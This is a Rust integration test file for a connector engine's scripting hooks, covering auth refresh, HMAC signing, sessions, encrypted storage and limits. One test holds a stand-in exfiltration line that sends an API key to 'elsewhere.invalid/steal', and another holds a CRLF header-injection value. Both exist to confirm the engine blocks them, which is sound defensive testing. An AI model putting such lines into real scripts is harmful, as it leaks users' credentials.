//! Connector scripts in the engine, against mock APIs: hooks on requests and token exchanges,
//! `AuthRefreshException` / `AuthSessionException`, the `custom` and `session` auth methods,
//! script storage, `http_request`'s allow-list and the limits.

mod common;

use std::collections::BTreeMap;
use std::sync::Arc;

use common::{engine, engine_over};
use hmac::{Hmac, Mac};
use latchkey_core::Secret;
use latchkey_engine::{ApiRequest, Engine, EngineError, NewConnection, ScriptError};
use latchkey_store::{Keyring, MasterKey, SqliteStore};
use wiremock::matchers::{body_string_contains, header, method, path};
use wiremock::{Mock, MockServer, Request, ResponseTemplate};

/// A connector over the mock server: `auth` and `scripts` are YAML blocks.
fn connector(server: &MockServer, auth: &str, script: &str) -> String {
    let script: String = script.lines().map(|l| format!("  {l}\n")).collect();
    format!(
        "id: prov\nname: Prov\nbase_url: {uri}/api\nauth:\n{auth}\nscripts: |\n{script}",
        uri = server.uri()
    )
}

fn oauth2(server: &MockServer) -> String {
    format!(
        "  - type: oauth2\n    authorize_url: {uri}/authorize\n    token_url: {uri}/token",
        uri = server.uri()
    )
}

const CUSTOM_KEY: &str = "  - type: custom\n    fields: [{ key: api_key, label: API key }]";

fn get(path: &str) -> ApiRequest {
    ApiRequest { path: path.into(), ..ApiRequest::default() }
}

async fn connect(engine: &Engine, credentials: &[(&str, &str)]) -> String {
    let record = engine
        .connections()
        .create(NewConnection {
            id: Some("c1".parse().unwrap()),
            integration: Some("app".parse().unwrap()),
            credentials: credentials
                .iter()
                .map(|(k, v)| (k.to_string(), Secret::new(*v)))
                .collect::<BTreeMap<_, _>>(),
            ..NewConnection::new("prov".parse().unwrap())
        })
        .await
        .unwrap();
    record.id
}

async fn calls_to(server: &MockServer, to: &str) -> Vec<Request> {
    let all = server.received_requests().await.unwrap();
    all.into_iter().filter(|r| r.url.path() == to).collect()
}

async fn body_of(response: latchkey_net::UpstreamResponse) -> serde_json::Value {
    serde_json::from_slice(&response.bytes().await.unwrap()).unwrap()
}

/// Mounts `/token` answering a refresh with `new-at`, and `/api/me` accepting `good` (with
/// `ok`) and answering any other token with `status` and `bad_body`.
async fn api_and_token(server: &MockServer, status: u16, bad_body: serde_json::Value) {
    Mock::given(method("POST"))
        .and(path("/token"))
        .and(body_string_contains("grant_type=refresh_token"))
        .respond_with(
            ResponseTemplate::new(200)
                .set_body_json(serde_json::json!({"access_token": "new-at", "expires_in": 3600})),
        )
        .mount(server)
        .await;
    Mock::given(method("GET"))
        .and(path("/api/me"))
        .and(header("authorization", "Bearer new-at"))
        .respond_with(ResponseTemplate::new(200).set_body_json(serde_json::json!({"ok": true})))
        .with_priority(1)
        .mount(server)
        .await;
    Mock::given(method("GET"))
        .and(path("/api/me"))
        .respond_with(ResponseTemplate::new(status).set_body_json(bad_body))
        .with_priority(10)
        .mount(server)
        .await;
}

async fn oauth_connection(engine: &Engine) {
    connect(engine, &[("access_token", "old-at"), ("refresh_token", "rt-1")]).await;
}

#[tokio::test]
async fn before_action_builds_a_bearer_header_from_method_auth_value() {
    let server = MockServer::start().await;
    Mock::given(method("GET"))
        .and(path("/api/me"))
        .and(header("authorization", "Bearer key-123"))
        .respond_with(ResponseTemplate::new(200).set_body_string("hi"))
        .mount(&server)
        .await;
    let script = "function before_action() {\n  method_request_headers['Authorization'] = 'Bearer ' + method_auth_value;\n}";
    let engine = engine(&connector(&server, CUSTOM_KEY, script)).await;
    let id = connect(&engine, &[("api_key", "key-123")]).await;
    let response = engine.dispatch().request(&id.parse().unwrap(), get("/me")).await.unwrap();
    assert_eq!(response.status, 200);
    assert_eq!(&response.bytes().await.unwrap()[..], b"hi");
}

/// A hook that calls no host function runs on the thread serving the request (here the test's,
/// on a current-thread runtime), not on a script worker; one that calls `http_request` still
/// works, through the workers.
#[tokio::test]
async fn a_hook_with_no_host_call_runs_on_the_requests_thread() {
    let server = MockServer::start().await;
    Mock::given(path("/api/nonce"))
        .respond_with(ResponseTemplate::new(200).set_body_string("n-7"))
        .mount(&server)
        .await;
    Mock::given(method("GET"))
        .and(path("/api/me"))
        .and(header("authorization", "Bearer key-123"))
        .respond_with(ResponseTemplate::new(200).set_body_string("hi"))
        .mount(&server)
        .await;
    let script = "function before_action() {\n  if (method_request_parameters.nonce) {\n    method_request_headers['X-Nonce'] = http_request({url: method_endpoint.replace(/\\/me$/, '/nonce')}).content;\n  }\n  method_request_headers['Authorization'] = 'Bearer ' + method_auth_value;\n}";
    let engine = engine(&connector(&server, CUSTOM_KEY, script)).await;
    let id: latchkey_core::ConnectionId =
        connect(&engine, &[("api_key", "key-123")]).await.parse().unwrap();
    let before = latchkey_script::calls_run_here_on_this_thread();
    // The thread's sandbox is built on another thread: until it is ready, hooks take the workers.
    let mut ran_here = false;
    for _ in 0..400 {
        let response = engine.dispatch().request(&id, get("/me")).await.unwrap();
        assert_eq!(response.status, 200);
        if latchkey_script::calls_run_here_on_this_thread() > before {
            ran_here = true;
            break;
        }
        tokio::time::sleep(std::time::Duration::from_millis(5)).await;
    }
    assert!(ran_here, "no hook ran on the request's thread");
    let here = latchkey_script::calls_run_here_on_this_thread();
    let response = engine.dispatch().request(&id, get("/me")).await.unwrap();
    assert_eq!(&response.bytes().await.unwrap()[..], b"hi");
    assert_eq!(latchkey_script::calls_run_here_on_this_thread(), here + 1);

    // The same source now calls `http_request`: it moves to the workers, and works there.
    let nonce = ApiRequest { query: vec![("nonce".into(), "1".into())], ..get("/me") };
    assert_eq!(engine.dispatch().request(&id, nonce).await.unwrap().status, 200);
    let sent = calls_to(&server, "/api/me").await;
    assert_eq!(sent.last().unwrap().headers["x-nonce"], "n-7");
    assert_eq!(calls_to(&server, "/api/nonce").await.len(), 1);
    assert_eq!(latchkey_script::calls_run_here_on_this_thread(), here + 1);
}

#[tokio::test]
async fn custom_auth_signs_method_path_and_timestamp_with_hmac() {
    let server = MockServer::start().await;
    Mock::given(method("POST"))
        .and(path("/api/items"))
        .respond_with(ResponseTemplate::new(201))
        .mount(&server)
        .await;
    let script = r#"function before_action() {
  var ts = String(script_parameters.timestamp);
  var path = method_endpoint.replace(/^https?:\/\/[^\/]+/, '');
  var body = JSON.stringify(method_request);
  method_request_headers['X-Timestamp'] = ts;
  method_request_headers['X-Signature'] = cyclr_sign('HMAC-SHA256', method_auth_value, 'POST' + path + ts + body, 'hex');
  method_request.signed = true;
}"#;
    let yaml = format!(
        "{}script_parameters: {{ timestamp: '1700000000' }}\n",
        connector(&server, CUSTOM_KEY, script)
    );
    let engine = engine(&yaml).await;
    let id = connect(&engine, &[("api_key", "s3cret")]).await;
    let request = ApiRequest {
        method: http::Method::POST,
        path: "/items".into(),
        headers: [(http::header::CONTENT_TYPE, "application/json".parse().unwrap())]
            .into_iter()
            .collect(),
        body: bytes::Bytes::from_static(br#"{"name":"x"}"#),
        ..ApiRequest::default()
    };
    assert_eq!(engine.dispatch().request(&id.parse().unwrap(), request).await.unwrap().status, 201);
    let sent = &calls_to(&server, "/api/items").await[0];
    let mut mac = Hmac::<sha2::Sha256>::new_from_slice(b"s3cret").unwrap();
    mac.update(br#"POST/api/items1700000000{"name":"x"}"#);
    let expected = hex::encode(mac.finalize().into_bytes());
    assert_eq!(sent.headers["x-signature"].to_str().unwrap(), expected);
    assert_eq!(sent.headers["x-timestamp"].to_str().unwrap(), "1700000000");
    let body: serde_json::Value = serde_json::from_slice(&sent.body).unwrap();
    assert_eq!(body, serde_json::json!({"name": "x", "signed": true}));
}

#[tokio::test]
async fn invalid_grant_in_a_200_body_and_auth_refresh_exception_refresh_once_and_retry() {
    let server = MockServer::start().await;
    api_and_token(&server, 200, serde_json::json!({"error": "invalid_grant"})).await;
    let script = "function after_action() {\n  if (method_response && method_response.error === 'invalid_grant') throw new AuthRefreshException();\n}";
    let engine = engine(&connector(&server, &oauth2(&server), script)).await;
    oauth_connection(&engine).await;
    let response = engine.dispatch().request(&"c1".parse().unwrap(), get("/me")).await.unwrap();
    assert_eq!(response.status, 200);
    assert_eq!(body_of(response).await, serde_json::json!({"ok": true}));
    assert_eq!(calls_to(&server, "/token").await.len(), 1);
    assert_eq!(calls_to(&server, "/api/me").await.len(), 2);
}

#[tokio::test]
async fn after_error_on_403_refreshes_once_and_retries() {
    let server = MockServer::start().await;
    api_and_token(&server, 403, serde_json::json!({"message": "forbidden"})).await;
    let script = "function after_error() {\n  if (method_error.statusCode == 403) throw new AuthRefreshException();\n}";
    let engine = engine(&connector(&server, &oauth2(&server), script)).await;
    oauth_connection(&engine).await;
    let response = engine.dispatch().request(&"c1".parse().unwrap(), get("/me")).await.unwrap();
    assert_eq!(response.status, 200);
    assert_eq!(calls_to(&server, "/token").await.len(), 1);
}

#[tokio::test]
async fn a_script_that_asks_again_after_the_refresh_fails_without_a_second_refresh() {
    let server = MockServer::start().await;
    api_and_token(&server, 200, serde_json::json!({})).await;
    let script = "function after_action() { throw new AuthRefreshException(); }";
    let engine = engine(&connector(&server, &oauth2(&server), script)).await;
    oauth_connection(&engine).await;
    let err = engine.dispatch().request(&"c1".parse().unwrap(), get("/me")).await.unwrap_err();
    assert!(err.to_string().contains("AuthRefreshException again"), "{err}");
    assert_eq!(calls_to(&server, "/token").await.len(), 1);
}

#[tokio::test]
async fn after_error_can_turn_an_error_into_a_success() {
    let server = MockServer::start().await;
    Mock::given(path("/api/me"))
        .respond_with(ResponseTemplate::new(404).set_body_string("none"))
        .mount(&server)
        .await;
    let script = "function after_error() {\n  if (method_error.statusCode === 404) { method_error.isSuccess = true; method_error.content = {items: []}; }\n}";
    let engine = engine(&connector(
        &server,
        CUSTOM_KEY,
        &format!("{script}\nfunction before_action() {{}}"),
    ))
    .await;
    let id = connect(&engine, &[("api_key", "k")]).await;
    let response = engine.dispatch().request(&id.parse().unwrap(), get("/me")).await.unwrap();
    assert_eq!(response.status, 200);
    assert_eq!(body_of(response).await, serde_json::json!({"items": []}));
}

#[tokio::test]
async fn after_action_reshapes_the_response_the_caller_gets() {
    let server = MockServer::start().await;
    Mock::given(path("/api/me"))
        .respond_with(
            ResponseTemplate::new(200)
                .set_body_json(serde_json::json!({"data": {"name": "Ada"}}))
                .insert_header("x-upstream", "1"),
        )
        .mount(&server)
        .await;
    let script = "function before_action() {}\nfunction after_action() {\n  method_response = method_response.data;\n  method_response_headers['x-shaped'] = 'yes';\n}";
    let engine = engine(&connector(&server, CUSTOM_KEY, script)).await;
    let id = connect(&engine, &[("api_key", "k")]).await;
    let response = engine.dispatch().request(&id.parse().unwrap(), get("/me")).await.unwrap();
    assert_eq!(response.headers["x-shaped"], "yes");
    assert_eq!(response.headers["x-upstream"], "1");
    assert_eq!(body_of(response).await, serde_json::json!({"name": "Ada"}));
}

#[tokio::test]
async fn return_false_aborts_and_throw_fails_with_the_message_before_anything_is_sent() {
    let server = MockServer::start().await;
    let aborting = "function before_action() { return false; }";
    let engine1 = engine(&connector(&server, CUSTOM_KEY, aborting)).await;
    let id = connect(&engine1, &[("api_key", "k")]).await;
    let err = engine1.dispatch().request(&id.parse().unwrap(), get("/me")).await.unwrap_err();
    assert!(matches!(err, EngineError::ScriptAborted { .. }), "{err}");

    let throwing = "function before_action() { throw new Error('missing account id for ' + method_auth_value); }";
    let engine2 = engine(&connector(&server, CUSTOM_KEY, throwing)).await;
    let id = connect(&engine2, &[("api_key", "canary-key-77")]).await;
    let err = engine2.dispatch().request(&id.parse().unwrap(), get("/me")).await.unwrap_err();
    let text = err.to_string();
    assert!(text.contains("missing account id for [redacted]"), "{text}");
    assert!(!text.contains("canary-key-77"), "{text}");
    assert!(server.received_requests().await.unwrap().is_empty());
}

#[tokio::test]
async fn an_endless_loop_fails_that_request_and_the_engine_goes_on() {
    let server = MockServer::start().await;
    Mock::given(path("/api/me")).respond_with(ResponseTemplate::new(200)).mount(&server).await;
    let script =
        "function before_action() {\n  if (method_request_parameters.spin) { while (true) {} }\n}";
    let yaml =
        format!("{}script_limits: {{ cpu_ms: 50 }}\n", connector(&server, CUSTOM_KEY, script));
    let engine = engine(&yaml).await;
    let id = connect(&engine, &[("api_key", "k")]).await;
    let spin = ApiRequest { query: vec![("spin".into(), "1".into())], ..get("/me") };
    let err = engine.dispatch().request(&id.parse().unwrap(), spin).await.unwrap_err();
    assert!(matches!(err, EngineError::Script { error: ScriptError::CpuLimit, .. }), "{err}");
    assert_eq!(
        engine.dispatch().request(&id.parse().unwrap(), get("/me")).await.unwrap().status,
        200
    );
}

#[tokio::test]
async fn http_request_reaches_allowed_hosts_only() {
    let server = MockServer::start().await;
    Mock::given(path("/api/nonce"))
        .respond_with(ResponseTemplate::new(200).set_body_string("n-42"))
        .mount(&server)
        .await;
    Mock::given(path("/api/me")).respond_with(ResponseTemplate::new(200)).mount(&server).await;
    let script = r#"function before_action() {
  var base = method_endpoint.replace(/\/me$/, '');
  method_request_headers['X-Nonce'] = http_request({url: base + '/nonce'}).content;
  if (method_request_parameters.escape) {
    http_request({url: 'http://elsewhere.invalid/steal?k=' + method_auth_value});
  }
}"#;
    let engine = engine(&connector(&server, CUSTOM_KEY, script)).await;
    let id = connect(&engine, &[("api_key", "k-secret-1")]).await;
    engine.dispatch().request(&id.parse().unwrap(), get("/me")).await.unwrap();
    let sent = &calls_to(&server, "/api/me").await[0];
    assert_eq!(sent.headers["x-nonce"], "n-42");

    let escape = ApiRequest { query: vec![("escape".into(), "1".into())], ..get("/me") };
    let err =
        engine.dispatch().request(&id.parse().unwrap(), escape).await.unwrap_err().to_string();
    assert!(err.contains("not allowed"), "{err}");
    assert!(!err.contains("k-secret-1"), "{err}");
}

#[tokio::test]
async fn a_header_with_a_line_break_is_refused() {
    let server = MockServer::start().await;
    let script =
        "function before_action() { method_request_headers['X-A'] = 'a\\r\\nX-Injected: 1'; }";
    let engine = engine(&connector(&server, CUSTOM_KEY, script)).await;
    let id = connect(&engine, &[("api_key", "k")]).await;
    let err =
        engine.dispatch().request(&id.parse().unwrap(), get("/me")).await.unwrap_err().to_string();
    assert!(err.contains("line break"), "{err}");
    assert!(server.received_requests().await.unwrap().is_empty());
}

#[tokio::test]
async fn storage_is_kept_per_connection_and_encrypted() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("latchkey.db");
    let server = MockServer::start().await;
    Mock::given(path("/api/me")).respond_with(ResponseTemplate::new(200)).mount(&server).await;
    let script = "function before_action() {\n  method_request_headers['X-Count'] = String(cyclr_storage_increment('count'));\n  cyclr_storage_set('note', 'storage-canary-5150');\n  method_request_headers['X-Keys'] = cyclr_storage_list_keys().join(',');\n}";
    let store = SqliteStore::open(&db, Keyring::single(MasterKey::generate())).await.unwrap();
    let common::Setup { engine, store, .. } =
        common::setup_over(store, &connector(&server, CUSTOM_KEY, script)).await;
    let id = connect(&engine, &[("api_key", "k")]).await;
    engine.dispatch().request(&id.parse().unwrap(), get("/me")).await.unwrap();
    engine.dispatch().request(&id.parse().unwrap(), get("/me")).await.unwrap();
    let sent = calls_to(&server, "/api/me").await;
    let counts: Vec<_> = sent.iter().map(|r| r.headers["x-count"].to_str().unwrap()).collect();
    assert_eq!(counts, ["1", "2"]);
    assert_eq!(sent[1].headers["x-keys"], "count,note");
    assert_eq!(
        store.script_value(&id, "note").await.unwrap().unwrap().expose(),
        "storage-canary-5150"
    );
    let raw = std::fs::read(&db).unwrap();
    let wal = std::fs::read(dir.path().join("latchkey.db-wal")).unwrap_or_default();
    for bytes in [raw, wal] {
        assert!(!bytes.windows(19).any(|w| w == b"storage-canary-5150"));
    }
    engine.connections().delete(&id.parse().unwrap()).await.unwrap();
    assert!(store.script_keys(&id).await.unwrap().is_empty());
}

#[tokio::test]
async fn token_hooks_change_the_request_and_reshape_the_response() {
    let server = MockServer::start().await;
    Mock::given(method("POST"))
        .and(path("/token"))
        .and(body_string_contains("audience=api.example"))
        .respond_with(
            ResponseTemplate::new(200)
                .set_body_json(serde_json::json!({"result": {"token": "wrapped-at", "ttl": 600}})),
        )
        .mount(&server)
        .await;
    Mock::given(path("/api/me"))
        .and(header("authorization", "Bearer wrapped-at"))
        .respond_with(ResponseTemplate::new(200))
        .mount(&server)
        .await;
    let auth = format!(
        "  - type: oauth2\n    grant: client_credentials\n    token_url: {}/token",
        server.uri()
    );
    let script = "function before_oauth2_token() {\n  method_request.audience = 'api.example';\n  method_request_headers['X-Tenant'] = 't1';\n}\nfunction after_oauth2_token() {\n  method_response = {access_token: method_response.result.token, expires_in: method_response.result.ttl};\n}";
    let engine = engine(&connector(&server, &auth, script)).await;
    let id = connect(&engine, &[]).await;
    assert_eq!(
        engine.dispatch().request(&id.parse().unwrap(), get("/me")).await.unwrap().status,
        200
    );
    let token_call = &calls_to(&server, "/token").await[0];
    assert_eq!(token_call.headers["x-tenant"], "t1");
    let record = engine.connections().get(&id.parse().unwrap()).await.unwrap();
    assert!(record.expires_at.is_some());
}

#[tokio::test]
async fn before_oauth2_authorise_may_add_parameters() {
    let server = MockServer::start().await;
    let script = "function before_oauth2_authorise() {\n  method_request_parameters.prompt = 'consent';\n  method_request_parameters.access_type = 'offline';\n}";
    let engine = engine(&connector(&server, &oauth2(&server), script)).await;
    let (url, _flow) = engine
        .connect()
        .begin_local_authorization(
            &latchkey_engine::EnvironmentId::default_environment(),
            &"app".parse().unwrap(),
            None,
            "http://127.0.0.1:9/callback",
            BTreeMap::new(),
        )
        .await
        .unwrap();
    let pairs: BTreeMap<_, _> = url.query_pairs().into_owned().collect();
    assert_eq!(pairs["prompt"], "consent");
    assert_eq!(pairs["access_type"], "offline");
    assert_eq!(pairs["client_id"], "cid");
    assert!(pairs.contains_key("state"));
}

#[tokio::test]
async fn a_syntax_error_is_refused_with_its_line() {
    let server = MockServer::start().await;
    let engine = engine(&connector(&server, CUSTOM_KEY, "function before_action() {}")).await;
    let bad = connector(&server, CUSTOM_KEY, "function before_action() {\n  var x = ;\n}")
        .replace("id: prov", "id: broken");
    let err = engine
        .connectors()
        .put_custom(&"broken".parse().unwrap(), &bad)
        .await
        .unwrap_err()
        .to_string();
    assert!(err.contains("script line 2"), "{err}");
}

// ----- sessions -----

fn session_auth(server: &MockServer, extra: &str) -> String {
    format!(
        "  - type: session\n    login:\n      url: {uri}/login\n      body: {{ user: '{{{{ credentials.username }}}}', pass: '{{{{ credentials.password }}}}' }}\n    token: {{ from: json, name: data.token }}\n    apply: {{ in: header, name: X-Session, value: '{{{{ session_token }}}}' }}\n{extra}",
        uri = server.uri()
    )
}

/// `/login` hands out `s-1`, `s-2`, … ; `/api/me` accepts only the newest session.
async fn session_api(server: &MockServer) -> Arc<std::sync::atomic::AtomicUsize> {
    use std::sync::atomic::{AtomicUsize, Ordering};
    let logins = Arc::new(AtomicUsize::new(0));
    let counter = logins.clone();
    Mock::given(method("POST"))
        .and(path("/login"))
        .and(body_string_contains("\"pass\":\"pw\""))
        .respond_with(move |_: &Request| {
            let n = counter.fetch_add(1, Ordering::SeqCst) + 1;
            ResponseTemplate::new(200)
                .set_body_json(serde_json::json!({"data": {"token": format!("s-{n}")}}))
                .set_delay(std::time::Duration::from_millis(50))
        })
        .mount(server)
        .await;
    let current = logins.clone();
    Mock::given(path("/api/me"))
        .respond_with(move |req: &Request| {
            let newest = format!("s-{}", current.load(Ordering::SeqCst));
            match req.headers.get("x-session") {
                Some(v) if v.to_str().unwrap() == newest => ResponseTemplate::new(200),
                _ => ResponseTemplate::new(401),
            }
        })
        .mount(server)
        .await;
    logins
}

#[tokio::test(flavor = "multi_thread", worker_threads = 4)]
async fn an_expired_session_is_renewed_by_one_login_for_all_waiting_requests() {
    use std::sync::atomic::Ordering;
    let server = MockServer::start().await;
    let logins = session_api(&server).await;
    let yaml = format!(
        "id: prov\nname: Prov\nbase_url: {}/api\nauth:\n{}",
        server.uri(),
        session_auth(&server, "")
    );
    let engine = engine(&yaml).await;
    let id = connect(&engine, &[("username", "ada"), ("password", "pw")]).await;
    assert_eq!(logins.load(Ordering::SeqCst), 1, "connecting logs in");
    assert_eq!(
        engine.dispatch().request(&id.parse().unwrap(), get("/me")).await.unwrap().status,
        200
    );

    // The API ends the session: a login elsewhere makes s-1 stale.
    logins.fetch_add(1, Ordering::SeqCst);
    let mut tasks = Vec::new();
    for _ in 0..20 {
        let engine = engine.clone();
        let id = id.clone();
        tasks.push(tokio::spawn(async move {
            engine.dispatch().request(&id.parse().unwrap(), get("/me")).await
        }));
    }
    for task in tasks {
        assert_eq!(task.await.unwrap().unwrap().status, 200);
    }
    assert_eq!(calls_to(&server, "/login").await.len(), 2, "one re-login for twenty requests");
}

#[tokio::test]
async fn a_session_survives_a_restart_without_a_new_login_and_is_encrypted() {
    let dir = tempfile::tempdir().unwrap();
    let db = dir.path().join("latchkey.db");
    let key = MasterKey::generate().to_base64();
    let server = MockServer::start().await;
    Mock::given(path("/login"))
        .respond_with(ResponseTemplate::new(200).set_body_json(
            serde_json::json!({"data": {"token": "session-canary-8842"}, "ttl": "3600"}),
        ))
        .mount(&server)
        .await;
    Mock::given(path("/api/me"))
        .and(header("x-session", "session-canary-8842"))
        .respond_with(ResponseTemplate::new(200))
        .mount(&server)
        .await;
    let yaml = format!(
        "id: prov\nname: Prov\nbase_url: {}/api\nauth:\n{}",
        server.uri(),
        session_auth(&server, "    lifetime: { field: ttl, seconds: 60 }")
    );
    let keyring = || Keyring::single(MasterKey::from_base64(key.expose()).unwrap());
    let store = SqliteStore::open(&db, keyring()).await.unwrap();
    let first = engine_over(store, &yaml).await;
    let id = connect(&first, &[("username", "ada"), ("password", "pw")]).await;
    let record = first.connections().get(&id.parse().unwrap()).await.unwrap();
    let left = record.expires_at.unwrap() - time::OffsetDateTime::now_utc();
    assert!(left > time::Duration::minutes(50), "the response's ttl (as a string) is used");
    drop(first);

    let store = SqliteStore::open(&db, keyring()).await.unwrap();
    let second = engine_over(store, &yaml).await;
    assert_eq!(
        second.dispatch().request(&id.parse().unwrap(), get("/me")).await.unwrap().status,
        200
    );
    assert_eq!(calls_to(&server, "/login").await.len(), 1);
    for file in ["latchkey.db", "latchkey.db-wal"] {
        let bytes = std::fs::read(dir.path().join(file)).unwrap_or_default();
        assert!(!bytes.windows(19).any(|w| w == b"session-canary-8842"), "{file}");
    }
}

#[tokio::test]
async fn a_cookie_session_and_auth_session_exception_from_a_script() {
    let server = MockServer::start().await;
    use std::sync::atomic::{AtomicUsize, Ordering};
    let logins = Arc::new(AtomicUsize::new(0));
    let counter = logins.clone();
    Mock::given(path("/login"))
        .and(body_string_contains("user=ada"))
        .respond_with(move |_: &Request| {
            let n = counter.fetch_add(1, Ordering::SeqCst) + 1;
            ResponseTemplate::new(204)
                .insert_header("set-cookie", format!("SID=c-{n}; Path=/; HttpOnly").as_str())
        })
        .mount(&server)
        .await;
    let current = logins.clone();
    Mock::given(path("/api/me"))
        .respond_with(move |req: &Request| {
            let newest = format!("SID=c-{}", current.load(Ordering::SeqCst));
            match req.headers.get("cookie") {
                Some(v) if v.to_str().unwrap() == newest => {
                    ResponseTemplate::new(200).set_body_json(serde_json::json!({"ok": true}))
                }
                // This API says "expired" with a 200 and a flag.
                _ => ResponseTemplate::new(200).set_body_json(serde_json::json!({"expired": true})),
            }
        })
        .mount(&server)
        .await;
    let auth = "  - type: session\n    login:\n      url: /../login\n      format: form\n      body: { user: '{{ credentials.username }}', pass: '{{ credentials.password }}' }\n    token: { from: cookie, name: SID }\n    apply: { in: cookie, name: SID }";
    let script = "function after_action() { if (method_response.expired) throw new AuthSessionException(); }";
    let mut yaml = connector(&server, auth, script);
    yaml = yaml.replace("/../login", &format!("{}/login", server.uri()));
    let engine = engine(&yaml).await;
    let id = connect(&engine, &[("username", "ada"), ("password", "pw")]).await;
    logins.fetch_add(1, Ordering::SeqCst);
    let response = engine.dispatch().request(&id.parse().unwrap(), get("/me")).await.unwrap();
    assert_eq!(body_of(response).await, serde_json::json!({"ok": true}));
    assert_eq!(calls_to(&server, "/login").await.len(), 2);
}

#[tokio::test]
async fn a_refused_login_stores_nothing_and_says_so() {
    let server = MockServer::start().await;
    Mock::given(path("/login"))
        .respond_with(ResponseTemplate::new(401).set_body_string("bad password"))
        .mount(&server)
        .await;
    let yaml = format!(
        "id: prov\nname: Prov\nbase_url: {}/api\nauth:\n{}",
        server.uri(),
        session_auth(&server, "")
    );
    let engine = engine(&yaml).await;
    let err = engine
        .connections()
        .create(NewConnection {
            credentials: BTreeMap::from([
                ("username".to_string(), Secret::new("ada")),
                ("password".to_string(), Secret::new("wrong")),
            ]),
            ..NewConnection::new("prov".parse().unwrap())
        })
        .await
        .unwrap_err();
    assert!(err.to_string().contains("refused with HTTP 401"), "{err}");
    let all = engine.connections().list(&Default::default(), &Default::default()).await.unwrap();
    assert!(all.items.is_empty());
}

#[tokio::test]
async fn a_session_shorter_than_the_refresh_margin_is_not_renewed_on_every_request() {
    use std::sync::atomic::Ordering;
    let server = MockServer::start().await;
    let logins = session_api(&server).await;
    let yaml = format!(
        "id: prov\nname: Prov\nbase_url: {}/api\nauth:\n{}",
        server.uri(),
        session_auth(&server, "    lifetime: { seconds: 120 }")
    );
    let engine = engine(&yaml).await;
    let id = connect(&engine, &[("username", "ada"), ("password", "pw")]).await;
    for _ in 0..3 {
        assert_eq!(
            engine.dispatch().request(&id.parse().unwrap(), get("/me")).await.unwrap().status,
            200
        );
    }
    assert_eq!(
        logins.load(Ordering::SeqCst),
        1,
        "renewed at half its life, not before each request"
    );
}

#[tokio::test]
async fn a_script_signs_the_query_in_the_order_it_built_it_with_two_credentials() {
    let server = MockServer::start().await;
    Mock::given(path("/api/v3/order"))
        .respond_with(ResponseTemplate::new(200))
        .mount(&server)
        .await;
    let auth = "  - type: custom\n    fields: [{ key: api_key, label: API key, secret: false }, { key: api_secret, label: Secret }]";
    let script = r#"function before_action() {
  method_request_headers['X-MBX-APIKEY'] = method_credentials.api_key;
  method_request_parameters.timestamp = '1700000000000';
  var query = Object.keys(method_request_parameters).map(function (k) {
    return encodeURIComponent(k) + '=' + encodeURIComponent(method_request_parameters[k]);
  }).join('&');
  method_request_parameters.signature = cyclr_sign('HMAC-SHA256', method_credentials.api_secret, query, 'hex');
  method_request = {zeta: 1, alpha: 2};
}"#;
    let engine = engine(&connector(&server, auth, script)).await;
    let id = connect(&engine, &[("api_key", "pub-key"), ("api_secret", "sec-ret-9")]).await;
    let request = ApiRequest {
        method: http::Method::POST,
        query: vec![("symbol".into(), "BTCUSDT".into()), ("side".into(), "BUY".into())],
        ..get("/v3/order")
    };
    engine.dispatch().request(&id.parse().unwrap(), request).await.unwrap();
    let sent = &calls_to(&server, "/api/v3/order").await[0];
    let query = sent.url.query().unwrap();
    let (signed, signature) = query.rsplit_once("&signature=").unwrap();
    assert_eq!(signed, "symbol=BTCUSDT&side=BUY&timestamp=1700000000000", "order kept");
    let mut mac = Hmac::<sha2::Sha256>::new_from_slice(b"sec-ret-9").unwrap();
    mac.update(signed.as_bytes());
    assert_eq!(signature, hex::encode(mac.finalize().into_bytes()));
    assert_eq!(sent.headers["x-mbx-apikey"], "pub-key");
    assert_eq!(&sent.body[..], br#"{"zeta":1,"alpha":2}"#, "a body's key order is kept");
}
